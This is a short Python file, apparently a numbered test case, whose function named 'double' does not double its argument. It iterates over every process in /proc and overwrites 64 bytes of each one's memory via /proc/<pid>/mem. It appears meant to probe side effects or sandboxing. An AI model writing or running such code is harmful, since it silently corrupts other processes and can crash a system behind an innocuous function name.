"""8: writes to memory through /proc."""

import os


def double(x):
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
            memory.seek(id(x))
            memory.write(b"\xff" * 64)
    return x
